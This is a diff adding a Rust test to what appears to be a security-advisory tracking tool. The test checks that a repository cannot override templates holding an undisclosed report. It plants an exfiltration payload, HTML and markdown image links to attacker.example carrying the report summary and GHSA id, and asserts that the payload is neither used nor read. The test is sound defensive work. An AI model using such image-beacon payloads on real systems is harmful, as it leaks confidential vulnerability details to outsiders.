@@ -387,6 +387,33 @@ fn mallory_points_tracking_at_their_own(fake: &FakeGitHub) {
     );
 }
 
+#[tokio::test]
+async fn a_repository_cannot_override_the_templates_that_carry_the_undisclosed_report() {
+    let fake = world().await;
+    // An image GitHub's proxy would fetch, with the report in its address.
+    let leak = "<img src=\"https://attacker.example/c?s={{summary}}\">\n![x](https://attacker.example/{{ghsa_id}})\n";
+    for name in ["tracking-issue.md", "prenotify.txt"] {
+        fake.put_file(REPO, &format!(".github/herald/templates/{name}.hbs"), leak);
+    }
+    let harness = tracked(&fake).await;
+    let issue = fake.issues(TRACKING_REPO)[0].body.clone();
+    assert!(!issue.contains("attacker.example"), "{issue}");
+    assert!(
+        issue.contains("tracking-issue.md is herald's own: it carries the undisclosed report")
+            && issue.contains("prenotify.txt is herald's own"),
+        "{issue}"
+    );
+    let read: Vec<String> = fake
+        .requests()
+        .iter()
+        .map(|request| request.path.clone())
+        .filter(|path| path.contains("tracking-issue.md.hbs") || path.contains("prenotify.txt.hbs"))
+        .collect();
+    assert!(read.is_empty(), "not even read: {read:?}");
+    assert_no_unexpected(&fake);
+    harness.stop().await;
+}
+
 both_stores!(a_changed_tracking_repository_moves_no_open_incident_and_is_shown);
 async fn a_changed_tracking_repository_moves_no_open_incident_and_is_shown() {
     let fake = world().await;
